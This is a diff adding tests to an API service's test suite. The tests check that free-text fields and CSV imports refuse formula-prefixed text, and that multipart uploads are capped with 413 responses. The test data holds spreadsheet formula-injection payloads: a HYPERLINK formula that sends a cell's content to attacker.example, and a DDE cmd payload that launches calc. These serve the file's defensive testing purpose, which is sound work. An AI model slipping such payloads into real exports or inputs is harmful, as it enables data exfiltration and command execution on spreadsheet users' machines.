@@ -7,6 +7,7 @@
 // table, every list's revision and SQLite's commit counter are unchanged), /healthz answers and
 // Object.prototype is untouched. The caller is an admin with an instance, so that authorization
 // is never what refuses the input.
+import { request as httpRequest } from "node:http";
 import fc from "fast-check";
 import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from "vitest";
 import { z } from "zod";
@@ -1018,5 +1019,196 @@ describe("regressions: inputs that were a 500 or were misread before this file",
         { field: "query.cursor", message: "unknown cursor" },
       ]);
     }
+  });
+});
+
+describe("formula-prefixed text, on every write path", () => {
+  const FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+  ];
+  /** Every free-text field of a JSON body that reaches a page or an export. */
+  const TEXT_FIELDS: Record<string, string[]> = {
+    "POST /api/v1/tokens": ["name"],
+    "POST /api/v1/instances": ["name"],
+    "POST /api/v1/lists": ["name", "description"],
+    "PATCH /api/v1/lists/:slug": ["name", "description"],
+    "PATCH /api/v1/lists/:slug/entries/:domain": ["publicComment", "privateComment"],
+    "POST /api/v1/lists/:slug/proposals": ["reason", "publicComment", "privateComment"],
+    "PUT /api/v1/proposals/:id/vote": ["comment"],
+    "POST /api/v1/proposals/:id/decide": ["reason"],
+    "POST /api/v1/proposals/:id/comments": ["body"],
+  };
+
+  test("the table names only routes of the route table, and fields of their bodies", () => {
+    for (const [label, fields] of Object.entries(TEXT_FIELDS)) {
+      const route = writeRoutes.find((candidate) => routeLabel(candidate) === label);
+      expect(route, label).toBeDefined();
+      expect(fieldPaths(route!), label).toEqual(expect.arrayContaining(fields));
+    }
+  });
+
+  test.each(Object.entries(TEXT_FIELDS))(
+    "%s: 400 formula naming the field",
+    async (label, fields) => {
+      const route = writeRoutes.find((candidate) => routeLabel(candidate) === label)!;
+      for (const field of fields) {
+        for (const formula of FORMULAS) {
+          const body = { ...BASE_BODIES[label], [field]: formula };
+          const response = await hostile(
+            {
+              ...baseRequest(route),
+              headers: { "Content-Type": "application/json" },
+              body: JSON.stringify(body),
+            },
+            { expect: 400 },
+          );
+          const problem = JSON.parse(response.text) as {
+            code: string;
+            errors: { field: string }[];
+          };
+          expect(problem.code, `${label} ${field} ${JSON.stringify(formula)}`).toBe("formula");
+          expect(problem.errors.map((error) => error.field)).toEqual([field]);
+        }
+      }
+    },
+  );
+
+  test("an import's formula-prefixed comment is the row problem formula, with its line and column", async () => {
+    for (const query of ["?dryRun=true", "?direct=true", ""]) {
+      for (const formula of FORMULAS.filter((text) => !/^\s/.test(text))) {
+        const csv = [
+          "#domain,#severity,#public_comment,#private_comment",
+          "clean.example,suspend,spam,",
+          `public.example,suspend,"${formula.replaceAll('"', '""')}",`,
+          `private.example,silence,,"${formula.replaceAll('"', '""')}"`,
+        ].join("\n");
+        const response = await hostile({
+          method: "post",
+          path: `/api/v1/lists/csv-target/imports${query}`,
+          headers: { "Content-Type": "text/csv" },
+          body: csv,
+        });
+        const { report } = JSON.parse(response.text) as {
+          report: { problems: { line: number; code: string; field: string; message: string }[] };
+        };
+        expect(report.problems).toMatchObject([
+          { line: 3, code: "formula", field: "public_comment" },
+          { line: 4, code: "formula", field: "private_comment" },
+        ]);
+        expect(report.problems[0]!.message).toMatch(/^public_comment must not begin with =/);
+      }
+    }
+    const stored = await app.ctx.db.prisma.entry.findMany({
+      where: {
+        list: { slug: "csv-target" },
+        domain: { in: ["public.example", "private.example"] },
+      },
+    });
+    expect(stored).toEqual([]);
+  });
+});
+
+describe("multipart limits", () => {
+  /** Streams a multipart body of `fields` text fields of `fieldBytes` each and a small file. */
+  function flood(fields: number, fieldBytes: number) {
+    return new Promise<{
+      status: number;
+      code: string;
+      detail: string;
+      sent: number;
+      total: number;
+    }>((resolve, reject) => {
+      const { hostname, port } = new URL(app.url);
+      const chunk = Buffer.alloc(fieldBytes, "a");
+      const total = fields * (fieldBytes + 100) + 200;
+      let sent = 0;
+      let answered = false;
+      const outgoing = httpRequest(
+        {
+          host: hostname,
+          port,
+          method: "POST",
+          path: "/api/v1/lists/csv-target/imports?dryRun=true",
+          headers: {
+            Authorization: `Bearer ${root.token}`,
+            "Content-Type": "multipart/form-data; boundary=XyZ",
+          },
+        },
+        (response) => {
+          const sentBeforeAnswer = sent;
+          answered = true;
+          const chunks: Buffer[] = [];
+          response.on("data", (data: Buffer) => chunks.push(data));
+          response.on("end", () => {
+            const problem = JSON.parse(Buffer.concat(chunks).toString("utf8") || "{}");
+            resolve({
+              status: response.statusCode!,
+              code: problem.code,
+              detail: problem.detail,
+              sent: sentBeforeAnswer,
+              total,
+            });
+            outgoing.destroy();
+          });
+        },
+      );
+      outgoing.on("error", () => {});
+      let index = 0;
+      const writeMore = () => {
+        while (index < fields) {
+          const part = Buffer.concat([
+            Buffer.from(`--XyZ\r\nContent-Disposition: form-data; name="f${index}"\r\n\r\n`),
+            chunk,
+            Buffer.from("\r\n"),
+          ]);
+          index += 1;
+          sent += part.length;
+          if (answered || outgoing.destroyed) return;
+          // One part per turn of the event loop, as a real client's network would pace it.
+          if (!outgoing.write(part)) return void outgoing.once("drain", writeMore);
+          return void setImmediate(writeMore);
+        }
+        outgoing.end(
+          '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\na.example\r\n--XyZ--\r\n',
+        );
+      };
+      writeMore();
+      setTimeout(() => reject(new Error("no answer within 60 s")), 60_000).unref();
+    });
+  }
+
+  test("60 one-megabyte text fields and a small file: 413 naming the limit, before most of it is sent", async () => {
+    const before = await probe.state();
+    const answer = await flood(60, 1024 * 1024);
+    expect(answer.status).toBe(413);
+    expect(answer.code).toBe("too_large");
+    expect(answer.detail).toMatch(/form field of the upload is longer than 1024 bytes/);
+    // Answered while the client was still sending: the service did not read the flood.
+    expect(answer.sent).toBeLessThan(answer.total / 2);
+    expect(await probe.state()).toEqual(before);
+  });
+
+  test("many small fields or parts: 413 naming the count", async () => {
+    const answer = await flood(50, 10);
+    expect(answer.status).toBe(413);
+    expect(answer.detail).toMatch(/more than (4 form fields|5 parts)/);
+  });
+
+  test("a Content-Length beyond the whole-request limit is refused unread", async () => {
+    const response = await hostile(
+      {
+        method: "post",
+        path: "/api/v1/lists/csv-target/imports?dryRun=true",
+        headers: { "Content-Type": "multipart/form-data; boundary=XyZ" },
+        body: Buffer.alloc(11 * 1024 * 1024, "a"),
+      },
+      { readOnly: true, expect: 413 },
+    );
+    expect(JSON.parse(response.text).detail).toMatch(/The request is larger than/);
   });
 });
